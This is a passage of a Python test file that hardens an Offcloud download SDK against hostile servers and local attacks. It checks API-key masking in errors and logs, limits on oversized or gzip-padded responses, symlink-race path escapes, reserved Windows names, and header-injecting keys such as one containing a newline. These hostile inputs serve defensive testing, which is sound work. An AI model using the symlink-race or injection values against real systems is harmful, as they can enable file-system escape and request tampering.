        Offcloud(KEY, base_url="http://127.0.0.1:9", http_client=proxied)
    proxied.close()


def test_a_key_the_server_echoes_is_masked_everywhere(harness: Harness) -> None:
    answers = iter(
        [
            httpx.Response(200, json={"not_available": f"premium {KEY}"}),
            httpx.Response(200, json={"error": KEY}),
            httpx.Response(500, text="x" * 190 + KEY),
        ]
    )
    oc = harness.client(http_client=mock_http(harness, lambda request: next(answers)))
    for _ in range(3):
        with pytest.raises(OffcloudError) as caught:
            harness.go(oc.with_options(max_retries=0).account.info())
        error = caught.value
        shown = f"{error} {error!r} {error.args} {getattr(error, 'code', '')}"
        assert KEY not in shown
        assert KEY[:8] not in shown


@pytest.mark.parametrize(
    ("status", "headers", "body"),
    [
        (429, {"retry-after": "Mon, 01 Jan 9999999999 00:00:00 GMT"}, b""),
        (200, {}, b"[" * 100_000),
        (500, {}, b"[" * 100_000),
    ],
)
def test_hostile_answers_raise_only_offcloud_errors(
    harness: Harness, status: int, headers: dict[str, str], body: bytes
) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status, headers=headers, stream=_Stream(lambda: iter([body])))

    oc = harness.client(http_client=mock_http(harness, answer), max_retries=0)
    with pytest.raises(OffcloudError):
        harness.go(oc.account.info())


def test_a_link_no_url_parser_takes_is_an_invalid_argument(
    harness: Harness, tmp_path: Path
) -> None:
    oc = harness.client()
    with pytest.raises(InvalidArgumentError, match="not a download link"):
        harness.go(oc.files.download("http://xn--/x.bin", tmp_path))


def test_server_numbers_never_overflow() -> None:
    from offcloud_api_client.models.request_status import RequestStatus

    from offcloud_sdk._flows.auth_flows import MAX_SECONDS, _positive
    from offcloud_sdk._flows.cloud_files import _as_size, _from_link
    from offcloud_sdk._flows.polling import _describe

    assert _positive(10**400) == MAX_SECONDS
    assert _as_size("²") is None
    assert _as_size(10**4000) is None
    assert _as_size("12") == 12
    assert _from_link("http://[oops/x").url == "http://[oops/x"
    huge = RequestStatus(request_id="r", status="downloading", progress=10**400)
    assert _describe(huge) == "downloading"


def test_a_validator_that_is_not_ascii_is_not_kept() -> None:
    response = httpx.Response(200, headers=[(b"etag", b'"caf\xe9"')])
    assert PartRecord.of(response, 10, STORAGE + "f").etag is None


def test_a_fifo_for_a_record_is_not_waited_on(tmp_path: Path) -> None:
    from offcloud_sdk._downloads.part_files import read_record, record_path

    part = tmp_path / "f.bin.part"
    os.mkfifo(record_path(part))
    assert read_record(part) is None


def test_a_symlink_loop_in_the_folder_is_refused(tmp_path: Path) -> None:
    os.symlink(tmp_path / "loop", tmp_path / "loop")
    with pytest.raises(UnexpectedResponseError, match="outside"):
        safe_destination(tmp_path, "loop/x.txt")


def test_no_folder_is_made_outside_when_one_becomes_a_symlink(
    harness: Harness, tmp_path: Path
) -> None:
    files: dict[str, int | bytes] = {"a.bin": b"A" * 1000, "sub/deep/er/x.txt": b"x"}
    _fake, oc, request_id = finished(harness, "T", files)
    dest, outside = tmp_path / "dest", tmp_path / "outside"
    outside.mkdir()

    def progress(_: object) -> None:  # a local process racing the download
        if not os.path.lexists(dest / "T" / "sub"):
            os.symlink(outside, dest / "T" / "sub")

    with pytest.raises(LocalFileError, match="outside"):  # one file after the other: the race
        harness.go(oc.cloud.download(request_id, dest, on_progress=progress, parallel=1))
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("CON .txt", "_CON .txt"),
        ("COM¹", "_COM¹"),
        ("CLOCK$", "_CLOCK$"),
        ("conin$.log", "_conin$.log"),
        ("x" * 252 + ".mkv", "x" * 231 + ".mkv"),
    ],
)
def test_more_names_windows_or_file_systems_refuse(name: str, safe: str) -> None:
    assert link_name(name) == safe


def test_a_name_of_255_bytes_downloads(harness: Harness, tmp_path: Path) -> None:
    name = "n" * 251 + ".mkv"
    _fake, oc, request_id = finished(harness, "T", {name: b"long"})
    (path,) = harness.go(oc.cloud.download(request_id, tmp_path))
    assert path.read_bytes() == b"long"
    assert len(path.name.encode()) == 235


def test_trickling_headers_end_at_the_total_timeout_async(
    trickling_headers: tuple[str, FakeClock],
) -> None:
    base_url, clock = trickling_headers

    async def call() -> None:
        async with AsyncOffcloud(
            KEY, base_url=base_url, timeout=1, max_retries=0, clock=clock
        ) as oc:
            await oc.account.info()

    with pytest.raises(APITimeoutError, match="total_timeout"):
        asyncio.run(call())


def test_the_clients_the_sdk_makes_read_through_the_deadline_backend() -> None:
    from offcloud_sdk._calls.deadline_backend import AsyncDeadlineBackend, DeadlineBackend

    for made, kind in (
        (Offcloud(KEY), DeadlineBackend),
        (AsyncOffcloud(KEY), AsyncDeadlineBackend),
    ):
        assert isinstance(made._runner.http._transport._pool._network_backend, kind)


# -- found by the second attack -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("A" * 225 + ".part.json" + "x" * 20, "A" * 225 + ".part.json_"),
        ("A" * 230 + ".part" + "x" * 20, "A" * 230 + ".part_"),
        ("tool.bin.part.j\u017fon", "tool.bin.part.j\u017fon_"),  # long s: folds to "s"
        ("tool.bin.PART", "tool.bin.PART_"),
    ],
)
def test_no_cut_or_fold_makes_a_part_or_record_name(name: str, safe: str) -> None:
    assert link_name(name) == safe


def test_what_follows_a_gzip_answer_is_neither_kept_nor_read(harness: Harness) -> None:
    member = zlib.compress(INFO % b"u1", wbits=zlib.MAX_WBITS | 16)
    sent: list[int] = []

    def body() -> Iterator[bytes]:
        yield member
        for _ in range(64):
            sent.append(1)
            yield b"\0" * (1 << 20)

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": "gzip"}
        return httpx.Response(200, headers=headers, stream=_Stream(body))

    oc = harness.client(http_client=mock_http(harness, answer), max_answer_size=1 << 20)
    assert harness.go(oc.account.info()).user_id == "u1"
    assert len(sent) <= 1


def test_an_error_page_in_one_byte_chunks_is_read_to_64_kib(
    harness: Harness, tmp_path: Path
) -> None:
    sent: list[int] = []

    def bytewise() -> Iterator[bytes]:
        for _ in range(448 << 10):
            sent.append(1)
            yield b"x"

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(503, stream=_Stream(bytewise))

    oc = harness.client(http_client=mock_http(harness, answer), max_retries=0)
    with pytest.raises(OffcloudError):
        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
    assert len(sent) <= (64 << 10) + 1


@pytest.mark.parametrize("key", ["MySecretKey\u201c", "Secret123\nabc", "Secret\u200b", "a b"])
def test_a_key_no_header_can_carry_is_refused_without_echo(harness: Harness, key: str) -> None:
    with pytest.raises(InvalidArgumentError) as caught:
        harness.client(api_key=key)
    assert key.strip() not in f"{caught.value} {caught.value!r}"
    oc = harness.client()
    with pytest.raises(InvalidArgumentError):
        oc.api_key = key


def test_a_redirect_location_keeps_no_key(
    harness: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        location = f"https://offcloud.test/elsewhere?key={KEY}"
        return httpx.Response(302, headers={"location": location})

    caplog.set_level("DEBUG")
    oc = harness.client(http_client=mock_http(harness, answer), key_in="query")
    with pytest.raises(OffcloudError) as caught:
        harness.go(oc.account.info())
    assert caught.value.response is not None
    assert KEY not in caught.value.response.headers["location"]
    assert KEY not in caplog.text


def test_httpcore_debug_lines_keep_no_key(
    caplog: pytest.LogCaptureFixture,
) -> None:
    def redirect(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(
            f"HTTP/1.1 302 Found\r\nLocation: /x?key={KEY}\r\nContent-Length: 0\r\n\r\n".encode()
        )

    caplog.set_level("DEBUG")
    with raw_server(redirect) as base_url:
        oc = Offcloud(KEY, base_url=base_url, max_retries=0)
        with oc, pytest.raises(OffcloudError):
            oc.account.info()
    assert "httpcore" in caplog.text
    assert KEY not in caplog.text


def test_a_failed_requests_reason_keeps_no_key(harness: Harness) -> None:
    fake = harness.fake()
    oc = harness.fake_client(fake)
    magnet = fake.add_torrent("X", fails=f"failed for key {fake.api_key}")
    request = harness.go(oc.cloud.add(url=magnet))
    with pytest.raises(DownloadFailedError) as caught:
        harness.go(oc.cloud.wait(request.request_id))
    assert "failed for key" in str(caught.value)
    assert fake.api_key not in f"{caught.value} {caught.value!r} {caught.value.args}"


def test_a_cut_secret_is_masked_too() -> None:
    text = f"is str '{KEY[:18]}…', expected int"
    assert KEY[:8] not in redact(text, [KEY])


@pytest.mark.parametrize("dest", [None, "bad\0name"])
def test_a_dest_that_is_no_path_is_an_invalid_argument(harness: Harness, dest: Any) -> None:
    oc = harness.client()
    with pytest.raises(InvalidArgumentError, match="dest"):
        harness.go(oc.files.download(STORAGE + "f.bin", dest))
